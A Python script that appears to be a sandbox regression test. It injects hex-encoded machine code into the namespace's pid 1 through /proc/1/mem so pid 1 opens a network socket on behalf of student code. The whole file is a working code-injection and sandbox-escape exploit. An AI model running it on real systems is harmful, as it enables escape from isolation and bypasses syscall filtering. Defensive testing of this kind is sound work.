# where: conv_forward
# Take over the namespace's pid 1: write machine code at its program counter through /proc/1/mem, wake it
# (an orphan of ours ends, so its wait returns) and let it call socket(AF_INET) for us; the code writes what
# socket returned to /tmp/pid1-socket. Before the fix pid 1 had the student's uid, was dumpable and unfiltered.
import os
import struct
import time
CODE = bytes.fromhex('b829000000bf02000000be0100000031d20f054989c4488d3d3b000000be41020000bab6010000b8020000000f05'
                     '4989c541544c89ef4889e6ba08000000b8010000000f054c89efb8030000000f05b8220000000f05ebf7'
                     '2f746d702f706964312d736f636b657400')
try:
    with open('/proc/1/syscall') as _f:
        _fields = _f.read().split()
    print('ATTACK: pid1: syscall %s' % ' '.join(_fields[:1]), flush=True)
    _pc = int(_fields[-1], 16)
    with open('/proc/1/mem', 'r+b', buffering=0) as _mem:
        _mem.seek(_pc)
        _mem.write(CODE)
    print('ATTACK: pid1: code written', flush=True)
    _child = os.fork()
    if _child == 0:                      # an orphan for pid 1 to reap: its wait returns into our code
        if os.fork() == 0:
            time.sleep(0.2)
        os._exit(0)
    os.waitpid(_child, 0)
    for _ in range(50):
        if os.path.exists('/tmp/pid1-socket') and os.path.getsize('/tmp/pid1-socket') == 8:
            break
        time.sleep(0.1)
    with open('/tmp/pid1-socket', 'rb') as _f:
        print('ATTACK: pid1: socket returned %d' % struct.unpack('<q', _f.read())[0], flush=True)
except OSError as _exc:
    print('ATTACK: pid1: %s: %s' % (type(_exc).__name__, _exc), flush=True)
